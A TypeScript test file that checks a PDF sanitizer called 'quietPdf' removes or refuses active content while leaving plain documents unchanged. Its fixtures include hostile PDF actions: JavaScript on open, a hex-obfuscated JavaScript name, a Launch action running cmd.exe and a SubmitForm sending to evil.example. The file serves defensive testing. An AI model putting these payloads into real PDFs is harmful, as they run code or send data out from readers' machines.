import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { quietPdf } from './quiet-pdf.ts';

const pdf = (body: string) => Buffer.from(`%PDF-1.7\n${body}\n%%EOF`, 'latin1');
const stream = (dict: string, content: Buffer) =>
  pdf(`1 0 obj\n<< ${dict} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream\nendobj`);

describe('a PDF', () => {
  it.each([
    '<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
    '<< /S /J#61vaScript /JS (x) >>',
    '<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>',
    '<< /S/SubmitForm/F(https://evil.example)>>',
    '<< /Names << /EmbeddedFiles 3 0 R >> >>',
  ])('loses what would act: %s', (body) => {
    const before = pdf(body);
    const quiet = quietPdf(before);
    expect(quiet).toHaveLength(before.length);
    expect(String(quiet)).not.toMatch(/JavaScript|J#61vaScript|Launch|SubmitForm|EmbeddedFiles/);
  });

  it('that only shows something stays as it is, byte for byte', () => {
    const page = deflateSync('BT /F1 12 Tf (Launch of /J a slip) Tj ET');
    for (const paper of [
      pdf('<< /Type /Catalog /Pages 2 0 R >>'),
      stream('/Filter /FlateDecode', page),
      stream('/Subtype /Image', Buffer.from([0, 255, 1])),
    ])
      expect(quietPdf(paper)?.equals(paper)).toBe(true);
  });

  it.each([
    [
      'in packed objects',
      stream('/Type /ObjStm /Filter /FlateDecode', deflateSync('1 0 << /S /JavaScript /JS (x) >>')),
    ],
    ['under another name of the stream', stream('/Type /Obj#53tm', deflateSync('1 0 << /S /J#61vaScript >>'))],
    ['in objects that are locked or packed otherwise', stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from('?'))],
  ])('that hides something %s is refused', (_where, paper) => expect(quietPdf(paper)).toBeUndefined());
});
